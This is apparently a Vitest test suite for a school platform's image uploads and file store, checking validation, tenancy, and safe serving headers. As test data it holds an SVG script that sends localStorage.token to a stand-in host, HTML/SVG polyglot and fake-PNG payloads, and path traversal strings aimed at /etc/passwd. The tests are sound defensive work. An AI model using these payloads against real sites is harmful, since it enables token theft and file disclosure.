import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localFileStore } from '../src/integrations/files/local-file-store.ts';
import { json, startServer, type TestServer } from './harness.ts';
import { gif, png } from './support/png.ts';

let server: TestServer;
let admin: string;
let school: string;
let ids: Record<string, number>;
beforeAll(async () => {
  server = await startServer();
  admin = (await server.login('admin@kampus.test')).token;
  school = (await server.login('school@kampus.test')).token;
  const schools = await json<{ id: number; title: string }[]>(await server.call('/api/schools.json', { token: admin }));
  ids = Object.fromEntries(schools.map((s) => [s.title, s.id]));
});
afterAll(() => server.close());

const upload = (token: string, schoolId: number, kind: string, body: Buffer, type = 'image/png') =>
  server.call(`/api/schools/${schoolId}/images/${kind}`, {
    method: 'PUT',
    token,
    headers: { 'content-type': type },
    body,
  });

type Problem = { violations?: { propertyPath: string; message: string }[] };

describe('school image uploads', () => {
  it('stores a 192x40 png logo, points the school at it and serves it back with its type', async () => {
    const high = ids['Demo High School'] as number;
    const image = png(192, 40);
    const response = await upload(school, high, 'logo', image);
    expect(response.status).toBe(200);
    const body = await json<{ logo: string }>(response);
    expect(body.logo).toMatch(new RegExp(`^/files/schools/${high}/images/logo\\.png\\?v=\\d+$`));
    const read = await server.call(body.logo);
    expect(read.status).toBe(200);
    expect(read.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await read.arrayBuffer()).equals(image)).toBe(true);
    const record = await json<{ logo: string }>(await server.call(`/api/schools/${high}`, { token: school }));
    expect(record.logo).toBe(body.logo);
  });

  it.each([
    ['logo', png(200, 40), 'The logo must be a PNG image of exactly 192 × 40 px.'],
    ['logo', gif(192, 40), 'The logo must be a PNG image of exactly 192 × 40 px.'],
    ['picture', png(1400, 301), 'The school photo must be a PNG image of exactly 1400 × 300 px.'],
    ['favicon', png(48, 48), 'The favicon must be a square PNG, ICO, GIF or JPEG image under 48 × 48 px.'],
    ['favicon', png(32, 16), 'The favicon must be a square PNG, ICO, GIF or JPEG image under 48 × 48 px.'],
    [
      'favicon',
      Buffer.from('not an image at all'),
      'The favicon must be a square PNG, ICO, GIF or JPEG image under 48 × 48 px.',
    ],
  ])('refuses a wrong %s with 422 and a clear message', async (kind, image, message) => {
    const high = ids['Demo High School'] as number;
    const before = await json<Record<string, unknown>>(await server.call(`/api/schools/${high}`, { token: school }));
    const response = await upload(school, high, kind, image);
    expect(response.status).toBe(422);
    expect((await json<Problem>(response)).violations).toEqual([
      { propertyPath: kind, message, code: expect.any(String) },
    ]);
    const after = await json<Record<string, unknown>>(await server.call(`/api/schools/${high}`, { token: school }));
    expect(after[kind]).toEqual(before[kind]);
  });

  it('says it in the language of the call', async () => {
    const response = await server.call(`/api/schools/${ids['Demo High School']}/images/picture`, {
      method: 'PUT',
      token: school,
      headers: { 'content-type': 'image/png', 'accept-language': 'tr' },
      body: png(10, 10),
    });
    expect(response.status).toBe(422);
    expect((await json<Problem>(response)).violations?.[0]?.message).toBe(
      'Okul fotoğrafı tam olarak 1400 × 300 piksel boyutunda bir PNG görseli olmalıdır.',
    );
  });

  it('accepts a 32 px favicon and a 1400x300 school photo', async () => {
    const middle = ids['Demo Middle School'] as number;
    const favicon = await upload(admin, middle, 'favicon', png(32, 32));
    expect(favicon.status).toBe(200);
    const photo = await upload(admin, middle, 'picture', png(1400, 300));
    expect(photo.status).toBe(200);
    const { picture } = await json<{ picture: string }>(photo);
    expect((await server.call(picture)).status).toBe(200);
  });

  it("refuses another school's logo to a school admin, and says nothing about the file", async () => {
    const middle = ids['Demo Middle School'] as number;
    const response = await upload(school, middle, 'logo', png(192, 40));
    expect(response.status).toBe(404);
    const wrong = await upload(school, middle, 'logo', png(1, 1));
    expect(wrong.status).toBe(404);
  });

  it('refuses teachers and callers without a token', async () => {
    const teacher = (await server.login('teacher@kampus.test')).token;
    expect((await upload(teacher, ids['Demo High School'] as number, 'logo', png(192, 40))).status).toBe(403);
    expect((await upload('', ids['Demo High School'] as number, 'logo', png(192, 40))).status).toBe(401);
  });

  it('answers 404 for an unknown kind or file, and never walks out of the store', async () => {
    expect((await upload(admin, ids['Demo High School'] as number, 'wallpaper', png(1, 1))).status).toBe(404);
    expect((await server.call('/files/schools/999/images/logo.png')).status).toBe(404);
    expect((await server.call('/files/schools/1/images/..%2F..%2F..%2Fetc%2Fpasswd')).status).toBe(404);
    // Files outside a school's public images need a caller who reaches that school.
    expect((await server.call('/files/schools/1/documents/contract.pdf')).status).toBe(401);
  });
});

describe('images that could run script', () => {
  const svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("//x.example/?"+localStorage.token)</script></svg>',
  );
  const html = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');
  // An HTML page that an image reader takes for an SVG drawing (it finds `<svg width height>` early on).
  const polyglot = Buffer.from(
    '<html><body><svg width="10" height="10"></svg><script>alert(document.domain)</script></body></html>',
  );
  // A PNG signature with a page behind it instead of an image header.
  const fakePng = Buffer.concat([png(1, 1).subarray(0, 8), Buffer.from('<html><script>alert(1)</script></html>')]);
  const typeRule = 'This file must be a PNG, JPEG, GIF or WebP image.';

  it.each([
    ['smallLogo', 'an SVG drawing sent as image/svg+xml', svg, 'image/svg+xml'],
    ['bigLogo', 'an SVG drawing sent as image/png', svg, 'image/png'],
    ['smallLogo', 'an HTML page', html, 'text/html'],
    ['bigLogo', 'an HTML page that reads as an SVG', polyglot, 'image/png'],
    ['smallLogo', 'a page behind a PNG signature', fakePng, 'image/png'],
  ])('refuses as %s %s with 422 naming the field', async (kind, _label, body, type) => {
    const high = ids['Demo High School'] as number;
    const before = await json<Record<string, unknown>>(await server.call(`/api/schools/${high}`, { token: school }));
    const response = await upload(school, high, kind, body, type);
    expect(response.status).toBe(422);
    expect((await json<Problem>(response)).violations).toEqual([
      { propertyPath: kind, message: typeRule, code: 'files.image_type' },
    ]);
    const after = await json<Record<string, unknown>>(await server.call(`/api/schools/${high}`, { token: school }));
    expect(after[kind]).toEqual(before[kind]);
  });

  it('refuses an SVG or HTML login background, whatever type or name it is sent with', async () => {
    const high = ids['Demo High School'] as number;
    for (const [body, type] of [
      [svg, 'image/svg+xml'],
      [svg, 'image/png'],
      [html, 'image/jpeg'],
      [polyglot, 'image/webp'],
    ] as const) {
      const response = await server.call(`/api/schools/${high}/configuration-images/loginScreenBgImage?name=bg.png`, {
        method: 'PUT',
        token: school,
        headers: { 'content-type': type, 'content-disposition': 'attachment; filename="bg.png"' },
        body,
      });
      expect(response.status, type).toBe(422);
      expect((await json<Problem>(response)).violations).toEqual([
        { propertyPath: 'loginScreenBgImage', message: typeRule, code: 'files.image_type' },
      ]);
    }
  });

  it('serves a stored image inline with a sandboxing policy, nosniff and its checked type', async () => {
    const high = ids['Demo High School'] as number;
    const { smallLogo } = await json<{ smallLogo: string }>(await upload(school, high, 'smallLogo', png(64, 64)));
    expect(smallLogo).toMatch(/\.png\?v=\d+$/);
    const read = await server.call(smallLogo);
    expect(read.status).toBe(200);
    expect(read.headers.get('content-type')).toBe('image/png');
    expect(read.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(read.headers.get('x-content-type-options')).toBe('nosniff');
    expect(read.headers.get('content-disposition')).toBeNull();
  });

  it.each(['/files/%25', '/files/%', '/files/%00', '/files/schools/1/images/..%2f..%2fetc', '/files/%c0%ae%c0%ae/x'])(
    'answers %s with a 4xx, never a 500',
    async (path) => {
      const response = await server.call(path);
      expect([400, 404]).toContain(response.status);
    },
  );
});

describe('files stored before the upload rules', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'kampus-legacy-'));
  let legacy: TestServer;
  beforeAll(async () => {
    const store = localFileStore(join(dataDir, 'files'));
    await store.put(
      'schools/1/images/smallLogo.svg',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
      'image/svg+xml',
    );
    await store.put('schools/1/images/note.txt', Buffer.from('<script>alert(1)</script>'), 'text/plain');
    legacy = await startServer({ DATA_DIR: dataDir }, { reset: false });
  });
  afterAll(async () => {
    await legacy.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it.each(['schools/1/images/smallLogo.svg', 'schools/1/images/note.txt'])(
    'serves %s as a download that cannot run, never as a page or a drawing',
    async (key) => {
      const read = await legacy.call(`/files/${key}`);
      expect(read.status).toBe(200);
      expect(read.headers.get('content-type')).toBe('application/octet-stream');
      expect(read.headers.get('content-disposition')).toMatch(/^attachment/);
      expect(read.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
      expect(read.headers.get('x-content-type-options')).toBe('nosniff');
    },
  );
});

describe('configuration form images', () => {
  const uploadConfig = (token: string, schoolId: number, key: string, body: Buffer) =>
    server.call(`/api/schools/${schoolId}/configuration-images/${key}`, {
      method: 'PUT',
      token,
      headers: { 'content-type': 'image/png' },
      body,
    });

  it('stores a login background and answers its address; the form then saves the key', async () => {
    const high = ids['Demo High School'] as number;
    const image = png(800, 600);
    const response = await uploadConfig(school, high, 'loginScreenBgImage', image);
    expect(response.status).toBe(200);
    const { url } = await json<{ url: string }>(response);
    expect(url).toMatch(new RegExp(`^/files/schools/${high}/images/config-loginScreenBgImage\\.png\\?v=\\d+$`));
    expect(Buffer.from(await (await server.call(url)).arrayBuffer()).equals(image)).toBe(true);
    const saved = await server.call(`/en/schools/${high}/configuration`, {
      method: 'PUT',
      token: school,
      json: { configuration: [{ key: 'loginScreenBgImage', value: url }] },
    });
    expect(saved.status).toBe(200);
    expect((await json<{ configuration: { key: string; value: string }[] }>(saved)).configuration).toContainEqual({
      key: 'loginScreenBgImage',
      value: url,
    });
  });

  it('applies the logo and favicon rules to the configuration keys too, and tenancy', async () => {
    const high = ids['Demo High School'] as number;
    const wrong = await uploadConfig(school, high, 'logo', png(100, 40));
    expect(wrong.status).toBe(422);
    expect((await json<Problem>(wrong)).violations?.[0]?.message).toBe(
      'The logo must be a PNG image of exactly 192 × 40 px.',
    );
    expect((await uploadConfig(school, high, 'favicon', png(16, 16))).status).toBe(200);
    expect((await uploadConfig(school, ids['Demo Middle School'] as number, 'favicon', png(16, 16))).status).toBe(404);
    expect((await uploadConfig(school, high, 'sitename', png(16, 16))).status).toBe(404);
  });
});

describe('local file store', () => {
  const root = mkdtempSync(join(tmpdir(), 'kampus-files-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const store = localFileStore(root);

  it('puts, reads back, lists by prefix and deletes', async () => {
    await store.put('schools/1/images/logo.png', png(192, 40), 'image/png');
    await store.put('schools/1/images/favicon.png', png(16, 16), 'image/png');
    await store.put('schools/2/images/logo.png', png(192, 40), 'image/png');
    const file = await store.get('schools/1/images/logo.png');
    expect(file?.contentType).toBe('image/png');
    const chunks: Buffer[] = [];
    for await (const part of file?.body ?? []) chunks.push(part as Buffer);
    expect(Buffer.concat(chunks).equals(png(192, 40))).toBe(true);
    expect((await store.list('schools/1/')).map((entry) => entry.key)).toEqual([
      'schools/1/images/favicon.png',
      'schools/1/images/logo.png',
    ]);
    await store.delete('schools/1/images/logo.png');
    expect(await store.get('schools/1/images/logo.png')).toBeNull();
    expect(store.url('schools/2/images/logo.png')).toBe('/files/schools/2/images/logo.png');
  });

  it('refuses keys that would leave its folder', async () => {
    await expect(store.put('../escape.txt', Buffer.from('x'), 'text/plain')).rejects.toThrow(/invalid file key/);
    await expect(store.get('/etc/passwd')).rejects.toThrow(/invalid file key/);
  });
});
